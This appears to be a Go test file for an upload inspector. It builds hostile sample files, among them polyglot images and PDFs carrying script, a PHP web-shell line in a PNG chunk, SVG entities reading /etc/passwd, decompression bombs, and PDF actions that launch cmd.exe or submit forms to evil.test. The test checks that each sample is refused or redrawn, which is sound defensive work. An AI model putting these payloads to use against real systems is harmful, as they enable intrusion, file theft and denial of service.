package files_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"

	"github.com/shrama/shrama/shared/fault"
	"github.com/shrama/shrama/shared/files"
)

// alert stands in every file that is a page or a program for some reader.
const alert = "<script>alert(document.domain)</script>"

func behind(b []byte, more string) []byte { return append(bytes.Clone(b), more...) }

// between puts something into a file behind its first n bytes.
func between(b []byte, n int, more []byte) []byte {
	return append(append(bytes.Clone(b[:n]), more...), b[n:]...)
}

// segment is one segment of a JPEG.
func segment(mark byte, body []byte) []byte {
	return append([]byte{0xff, mark, byte((len(body) + 2) >> 8), byte(len(body) + 2)}, body...)
}

const (
	afterHead  = 33 // of a PNG: signature and IHDR
	afterStart = 2  // of a JPEG
)

// polyglots are files that are one thing to who looks at their first bytes and
// another to who opens them.
func polyglots(t testing.TB) map[string][]byte {
	t.Helper()
	p, j, d := pngOf(t, picture(8, 8)), jpegOf(t, picture(8, 8)), pdf("")
	zip := "PK\x03\x04\x14\x00\x00\x00\x00\x00rest PK\x01\x02 PK\x05\x06" + strings.Repeat("\x00", 18)
	return map[string][]byte{
		"a page called .pdf":                       []byte("<!doctype html><title>x</title>" + alert),
		"a page with a PDF's mark in a comment":    []byte("<!--%PDF-1.4\n-->" + alert + "%PDF-1.4 1 0 obj<<>>endobj\nstartxref\n0\n%%EOF"),
		"a PDF's head before a page":               []byte("%PDF-1.4\n<html>" + alert + "</html>\n%%EOF"),
		"a page behind a PDF":                      behind(d, alert),
		"a page behind a PDF and its end again":    behind(d, alert+"\nstartxref\n0\n"),
		"a byte order mark before a PDF":           behind([]byte("\xef\xbb\xbf"), string(d)),
		"a line before a PDF":                      behind([]byte("\n"), string(d)),
		"a program before a PDF":                   behind([]byte("#!/bin/sh\nexit 0\n"), string(d)),
		"a picture before a PDF":                   behind([]byte("GIF89a"), string(d)),
		"a zip behind a PDF":                       behind(d, zip),
		"a zip in a PDF":                           bytes.Replace(d, []byte("startxref"), []byte(zip+"\nstartxref"), 1),
		"a Java archive in a PDF's last comment":   bytes.Replace(d, []byte("startxref"), []byte("%"+zip+"\nstartxref"), 1),
		"a page behind a PNG":                      behind(p, alert),
		"a page in a PNG's text":                   between(p, afterHead, chunk("tEXt", []byte("Title\x00"+alert))),
		"a page in a PNG's own chunk":              between(p, afterHead, chunk("prVt", []byte(alert))),
		"a zip behind a PNG":                       behind(p, zip),
		"a PDF behind a PNG":                       behind(p, string(pdf("/JS (x)"))),
		"a PDF in a PNG's text":                    between(p, afterHead, chunk("tEXt", behind([]byte("Title\x00"), string(pdf("/JS (x)"))))),
		"a PHP page in a PNG's text":               between(p, afterHead, chunk("tEXt", []byte("c\x00<?php system($_GET[0]); ?>"))),
		"a PNG's mark before a page":               []byte("\x89PNG\r\n\x1a\n" + alert),
		"a page behind a JPEG":                     behind(j, alert),
		"a page in a JPEG's comment":               between(j, afterStart, segment(0xfe, []byte(alert))),
		"a script in a JPEG's comment":             between(j, afterStart, segment(0xfe, []byte("*/=alert(1);/*"))),
		"a page in a JPEG's Exif":                  between(j, afterStart, segment(0xe1, []byte("Exif\x00\x00"+alert))),
		"a page in a JPEG's XMP":                   between(j, afterStart, segment(0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00"+alert))),
		"a zip behind a JPEG":                      behind(j, zip),
		"a PDF in a JPEG's comment":                between(j, afterStart, segment(0xfe, pdf("/JS (x)"))),
		"a JPEG's mark before a zip":               []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00" + zip),
		"a JPEG's mark before a page":              []byte("\xff\xd8\xff/*" + alert),
		"a GIF that is a script":                   []byte("GIF89a/*\x00\x00*/=1;alert(1)//"),
		"a GIF that is a page":                     []byte("GIF89a" + alert),
		"a BMP that is a script":                   []byte("BM/*\x00*/=1;alert(1)//"),
		"a WebP":                                   []byte("RIFF\x10\x00\x00\x00WEBPVP8 " + alert),
		"a drawing that runs":                      []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"a drawing with an entity":                 []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`),
		"a drawing behind a long comment":          []byte("<!--" + strings.Repeat(" ", 2000) + `--><svg onload="alert(1)"/>`),
		"a drawing packed by gzip":                 []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00"),
		"a whole page as mail":                     []byte("MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + alert),
		"a text in UTF-16 that is a page":          []byte("\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00"),
		"an Office file":                           []byte(zip),
		"an Office file of old":                    []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
		"a program for Windows":                    []byte("MZ\x90\x00"),
		"a program for Linux":                      []byte("\x7fELF\x02\x01\x01"),
		"PostScript":                               []byte("%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
		"a form of data that Acrobat opens":        []byte("%FDF-1.2\n1 0 obj << /FDF << /JavaScript << >> >> >>\n%%EOF"),
		"a link of Windows":                        []byte("L\x00\x00\x00\x01\x14\x02\x00"),
		"a page that is hidden from the first 512": []byte(strings.Repeat(" ", 512) + alert),
	}
}

// inPage puts more into a document as objects of its own.
func inPage(objects string) []byte { return pdf("/X 5 0 R >>\nendobj\n" + objects + "\n9 0 obj <<") }

// streamed is a stream of a document.
func streamed(dict string, body []byte) string {
	return fmt.Sprintf("7 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj", dict, len(body), body)
}

// zeros is n zeros, packed a thousand times smaller.
func zeros(n int) []byte {
	b, ok := packedZeros[n]
	if !ok {
		b = deflate(strings.Repeat("\x00", n))
		packedZeros[n] = b
	}
	return b
}

var packedZeros = map[int][]byte{}

// bombs are small and would be large.
func bombs(t testing.TB) map[string][]byte {
	t.Helper()
	p, j := pngOf(t, picture(8, 8)), jpegOf(t, picture(8, 8))
	claims := func(w, h uint16) []byte { // a JPEG that says so of itself
		at := bytes.Index(j, []byte{0xff, 0xc0})
		b := bytes.Clone(j)
		binary.BigEndian.PutUint16(b[at+5:], h)
		binary.BigEndian.PutUint16(b[at+7:], w)
		return b
	}
	waits := func(b []byte) []byte { return bytes.Replace(b, []byte{0xff, 0xc0}, []byte{0xff, 0xc2}, 1) } // progressive
	at := bytes.Index(j, []byte{0xff, 0xda})
	scans := between(j, at, bytes.Repeat(j[at:len(j)-2], 500))
	white := whole(6000, 6000, 6, 8)
	laced := bytes.Clone(white)
	laced[28] = 1
	copy(laced[8:], chunk("IHDR", laced[16:29])) // with the sum that fits
	return map[string][]byte{
		"a PNG of 2^31 a side":              bomb(1<<31-1, 1<<31-1, 8, 6),
		"a PNG of 50,000 a side":            bomb(50_000, 50_000, 8, 2),
		"a PNG of a line of 40 million":     bomb(40_000_001, 1, 8, 0),
		"a PNG of 40 megapixels in colour":  bomb(8000, 5000, 8, 6),
		"a PNG of 25 megapixels, 16 bits":   bomb(5000, 5000, 16, 6),
		"a whole PNG of 36 megapixels":      white,
		"a laced PNG of 36 megapixels":      laced,
		"a PNG with packed text":            between(p, afterHead, chunk("zTXt", append([]byte("Comment\x00\x00"), zeros(150<<20)...))),
		"a PNG with packed foreign text":    between(p, afterHead, chunk("iTXt", append([]byte("Comment\x00\x01\x00\x00\x00"), zeros(150<<20)...))),
		"a PNG with a packed profile":       between(p, afterHead, chunk("iCCP", append([]byte("icc\x00\x00"), zeros(150<<20)...))),
		"a PNG with more rows than it says": bytes.Replace(bomb(8, 8, 8, 6), chunk("IDAT", deflate(strings.Repeat("\x00", 1000))), chunk("IDAT", zeros(150<<20)), 1),
		"a JPEG of 65,535 a side":           claims(65535, 65535),
		"a JPEG of 40 megapixels":           claims(8000, 5000),
		"a JPEG of 40 megapixels that wait": waits(claims(8000, 5000)),
		"a JPEG of 12 megapixels that wait": waits(claims(4000, 3000)),
		"a JPEG of 500 scans":               scans,
		"a PDF of 40 MB of objects":         packed("/Type /ObjStm /Filter /FlateDecode", strings.Repeat(" ", 40<<20)),
		"a PDF of a page of 150 MB":         inPage(streamed("/Filter /FlateDecode", zeros(150<<20))),
		"a PDF of many pages of 30 MB":      inPage(strings.Repeat(streamed("/Filter /FlateDecode", zeros(30<<20)), 20)),
		"a PDF packed twice":                inPage(streamed("/Filter [/FlateDecode /FlateDecode]", deflate(string(zeros(30<<20))))),
		"a PDF packed twice in escapes":     inPage(streamed("/Filter [/Flate#44ecode %\n/Fl]", deflate(string(zeros(30<<20))))),
		"a PDF of nested arrays":            pdf("/X " + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)),
		"a PDF of nested dictionaries":      pdf("/X " + strings.Repeat("<< ", 100_000)),
		"a PDF of nested, packed arrays":    packed("/Type /ObjStm /Filter /FlateDecode", strings.Repeat("[ ", 1<<20)),
		"a zip of 30 MB":                    append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), zeros(30<<20)...),
	}
}

// whole is a PNG all of whose pixels are there, and zero.
func whole(w, h uint32, kind, depth byte) []byte {
	pixel := map[byte]int{0: 1, 2: 3, 6: 4}[kind] * int(depth) / 8
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	b := append([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", append(head, depth, kind, 0, 0, 0))...)
	return append(append(b, chunk("IDAT", zeros(int(h)*(1+int(w)*pixel)))...), chunk("IEND", nil)...)
}

// acting are documents that do something by themselves or hide something.
func acting() map[string][]byte {
	in := func(objects string) []byte {
		return packed("/Type /ObjStm /Filter /FlateDecode", objects)
	}
	return map[string][]byte{
		"JavaScript":                     pdf("/Names << /JavaScript 3 0 R >>"),
		"JavaScript in an escape":        pdf("/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"),
		"JavaScript all in escapes":      pdf("/S /#4a#61#76#61#53#63#72#69#70#74"),
		"JavaScript as hexadecimal":      pdf("/JS <6170702e616c657274>"),
		"JavaScript in a packed object":  in("<< /S /JavaScript /JS (x()) >>"),
		"JavaScript escaped and packed":  in("<< /S /J#61vaScript /J#53 (x()) >>"),
		"an action on opening":           pdf("/OpenAction << /S /URI /URI (https://evil.test) >>"),
		"an action on opening, packed":   in("<< /OpenAction << /S /URI /URI (https://evil.test) >> >>"),
		"actions of a page":              pdf("/AA << /O 3 0 R >>"),
		"actions of a page in an escape": pdf("/#41A<< /O 3 0 R >>"),
		"actions of a field, packed":     in("<< /AA << /K 3 0 R >> >>"),
		"a program":                      pdf("/A << /S /Launch /F (cmd.exe) >>"),
		"a program in an escape":         pdf("/A << /S /L#61unch /Win << /F (cmd.exe) >> >>"),
		"a file inside":                  pdf("/Type /EmbeddedFile"),
		"files inside by name":           pdf("/Names << /EmbeddedFiles << /Names [(x) 3 0 R] >> >>"),
		"a form of XML":                  pdf("/AcroForm << /XFA [(template) 3 0 R] >>"),
		"a film":                         pdf("/Annots [<< /Subtype /RichMedia >>]"),
		"a film, packed":                 in("<< /Subtype /RichMedia >>"),
		"a form sent away":               pdf("/A << /S /SubmitForm /F (https://evil.test) >>"),
		"data brought in":                pdf("/A << /S /ImportData /F (x.fdf) >>"),
		"another computer's file":        pdf(`/A << /S /GoToR /F (\\\\evil\\share) >>`),
		"a file inside a file":           pdf("/A << /S /GoToE >>"),
		"a password":                     bytes.Replace(pdf(""), []byte("/Root"), []byte("/Encrypt 9 0 R /Root"), 1),
		"a password in an escape":        bytes.Replace(pdf(""), []byte("/Root"), []byte("/#45ncrypt 9 0 R /Root"), 1),
		"objects packed in hexadecimal":  inPage(streamed("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", []byte("789c"))),
	}
}

// nothing reports what of a harmful file is left in what was kept of it.
func nothing(clean []byte) string {
	for _, s := range []string{"<script", "<?php", "alert(", "PK\x03\x04", "%PDF", "zTXt", "iTXt", "iCCP", "prVt", "tEXt", "Exif", "xap/1.0"} {
		if bytes.Contains(clean, []byte(s)) {
			return s
		}
	}
	return ""
}

func TestNoHarmfulFileIsKept(t *testing.T) {
	for kind, corpus := range map[string]map[string][]byte{"polyglots": polyglots(t), "acting": acting()} {
		refused, redrawn := 0, 0
		for name, b := range corpus {
			clean, _, err := files.Inspect(b, files.Limits{})
			switch {
			case fault.KindOf(err) == fault.Invalid:
				refused++
			case err != nil:
				t.Errorf("%s: %v", name, err)
			case bytes.HasPrefix(clean, []byte("%PDF")) || bytes.Equal(clean, b) || nothing(clean) != "":
				t.Errorf("%s: kept with %q", name, nothing(clean))
			default:
				redrawn++
			}
			if _, _, err := files.Inspect(b, files.Limits{Photo: true, Side: 192}); err == nil && len(b) > 0 && bytes.HasSuffix(b, []byte(alert)) {
				t.Errorf("%s: kept as an emblem", name)
			}
		}
		t.Logf("%d %s: %d refused, %d kept as pixels only, 0 as they are", len(corpus), kind, refused, redrawn)
	}
}
